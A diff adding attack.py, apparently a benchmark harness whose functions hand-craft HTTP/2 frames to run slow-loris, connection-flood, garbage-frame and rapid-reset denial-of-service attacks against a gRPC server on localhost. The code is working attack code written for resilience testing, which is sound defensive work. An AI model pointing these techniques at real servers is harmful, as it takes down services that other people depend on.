@@ -1,0 +1,238 @@
+"""The attackers of the benchmark, each a process of its own on the lowest priority: attack.py NAME PORT SECONDS [key=value...]
+
+Speaks HTTP/2 by hand, in plain text, to a port of 127.0.0.1. Prints what it did as a line of JSON at the end: at SIGTERM, or after
+SECONDS. Exits 1 if it never reached the server.
+"""
+
+import asyncio
+import json
+import os
+import random
+import signal
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, UNKNOWN = 0, 1, 3, 4, 0xFA
+END_HEADERS = 4
+CANCEL = 8
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    """A header field without indexing or Huffman codes."""
+    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value
+
+
+def call_headers(path):
+    return b"".join(
+        literal(name, value)
+        for name, value in (
+            (b":method", b"POST"),
+            (b":scheme", b"http"),
+            (b":path", path),
+            (b":authority", b"127.0.0.1"),
+            (b"te", b"trailers"),
+            (b"content-type", b"application/grpc"),
+        )
+    )
+
+
+COMPUTE_LOSS = call_headers(b"/headwater.v1.LossService/ComputeLoss")
+UPLOAD_WEIGHTS = call_headers(b"/headwater.v1.HeadService/UploadWeights")
+
+
+class Attack:
+    """What the attackers share: until when, and what is counted."""
+
+    def __init__(self, port, seconds, options):
+        self.port = port
+        self.end = time.monotonic() + seconds
+        self.options = options
+        self.counts = {}
+
+    def count(self, what, by=1):
+        self.counts[what] = self.counts.get(what, 0) + by
+
+    def over(self):
+        return time.monotonic() >= self.end
+
+    async def open(self, http2=True):
+        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
+        self.count("connections")
+        if http2:
+            writer.write(PREFACE + frame(SETTINGS, 0, 0))
+        return reader, writer
+
+    async def discard(self, reader):
+        """Reads until the server ends the connection; what the server says is nobody's concern."""
+        try:
+            while await reader.read(1 << 16):
+                pass
+        except OSError:
+            pass
+
+
+async def slow_loris(attack):
+    """`streams` calls, `each` of them on a connection, which begin and then send a byte of their first message every second."""
+    streams = int(attack.options.get("streams", 1000))
+    each = int(attack.options.get("each", 50))
+
+    async def connection():
+        while not attack.over():
+            try:
+                reader, writer = await attack.open()
+                reading = asyncio.ensure_future(attack.discard(reader))
+                for i in range(each):
+                    stream = 2 * i + 1
+                    headers = COMPUTE_LOSS if i % 2 else UPLOAD_WEIGHTS
+                    writer.write(frame(HEADERS, END_HEADERS, stream, headers))
+                    writer.write(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20)))
+                    attack.count("streams")
+                while not attack.over() and not reading.done():
+                    for i in range(each):
+                        writer.write(frame(DATA, 0, 2 * i + 1, b"\x0a"))
+                        attack.count("trickled_bytes")
+                    await writer.drain()
+                    await asyncio.sleep(1)
+                reading.cancel()
+                writer.close()
+            except OSError:
+                attack.count("failures")
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(connection() for _ in range(streams // each)))
+
+
+async def connections(attack):
+    """Opens `total` connections, some of which say nothing, some the preface, some nonsense, and drops them."""
+    total = int(attack.options.get("total", 10000))
+    begin = time.monotonic()
+    seconds = attack.end - begin
+
+    async def one(i):
+        try:
+            _, writer = await attack.open(http2=i % 3 == 1)
+            if i % 3 == 2:
+                writer.write(os.urandom(64))
+            await asyncio.sleep(random.random())
+            writer.transport.abort()
+        except OSError:
+            attack.count("failures")
+
+    tasks = set()
+    for i in range(total):
+        ahead = i * seconds / total - (time.monotonic() - begin)
+        if ahead > 0:
+            await asyncio.sleep(ahead)
+        tasks.add(asyncio.ensure_future(one(i)))
+        if len(tasks) > 500:
+            _, tasks = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+    await asyncio.gather(*tasks)
+
+
+async def garbage(attack):
+    """`rate` bytes a second: frames of a kind that nobody knows, which a server reads and skips, calls whose messages are noise,
+    and bytes that are no HTTP/2 at all on new connections."""
+    rate = float(attack.options.get("rate", 100e6))
+    noise = os.urandom(1 << 20)
+    unknown = frame(UNKNOWN, 0, 0, noise[:16000])
+    unknown = unknown * 16
+    begin = time.monotonic()
+    sent = 0
+
+    async def pace():
+        ahead = sent / rate - (time.monotonic() - begin)
+        if ahead > 0:
+            await asyncio.sleep(ahead)
+
+    while not attack.over():
+        try:
+            reader, writer = await attack.open()
+            reading = asyncio.ensure_future(attack.discard(reader))
+            stream = 1
+            while not attack.over() and not reading.done():
+                for _ in range(4):
+                    writer.write(unknown)
+                    sent += len(unknown)
+                    attack.count("bytes", len(unknown))
+                    await writer.drain()
+                if stream < 1 << 30:
+                    message = noise[:10000]
+                    writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
+                    writer.write(frame(DATA, 1, stream, b"\0" + struct.pack(">I", len(message)) + message))
+                    stream += 2
+                    attack.count("calls")
+                    attack.count("bytes", len(message))
+                await pace()
+            reading.cancel()
+            writer.close()
+            _, writer = await attack.open(http2=False)
+            writer.write(noise)
+            attack.count("bytes", len(noise))
+            await asyncio.sleep(0)
+            writer.close()
+        except OSError:
+            attack.count("failures")
+            await asyncio.sleep(0.01)
+
+
+async def resets(attack):
+    """Calls that are reset as soon as they have begun, as many as the server takes, on `parallel` connections."""
+
+    async def connection():
+        while not attack.over():
+            try:
+                reader, writer = await attack.open()
+                reading = asyncio.ensure_future(attack.discard(reader))
+                stream = 1
+                while not attack.over() and not reading.done() and stream < 1 << 30:
+                    burst = []
+                    for _ in range(100):
+                        burst.append(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
+                        burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                        stream += 2
+                    writer.write(b"".join(burst))
+                    attack.count("resets", 100)
+                    await writer.drain()
+                    await asyncio.sleep(0)
+                reading.cancel()
+                writer.close()
+            except OSError:
+                attack.count("failures")
+                await asyncio.sleep(0.01)
+
+    await asyncio.gather(*(connection() for _ in range(int(attack.options.get("parallel", 4)))))
+
+
+ATTACKS = {"slow_loris": slow_loris, "connections": connections, "garbage": garbage, "resets": resets}
+
+
+def main():
+    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+    attack = Attack(port, seconds, dict(option.split("=", 1) for option in sys.argv[4:]))
+    os.nice(19)
+
+    def stop(*_):
+        attack.end = 0
+
+    signal.signal(signal.SIGTERM, stop)
+
+    async def run():
+        task = asyncio.ensure_future(ATTACKS[name](attack))
+        while not task.done() and not attack.over():
+            await asyncio.wait({task}, timeout=0.2)
+        await asyncio.wait({task}, timeout=2)
+        task.cancel()
+
+    asyncio.run(run())
+    print(json.dumps(attack.counts), flush=True)
+    os._exit(0 if attack.counts.get("connections") else 1)
+
+
+if __name__ == "__main__":
+    main()
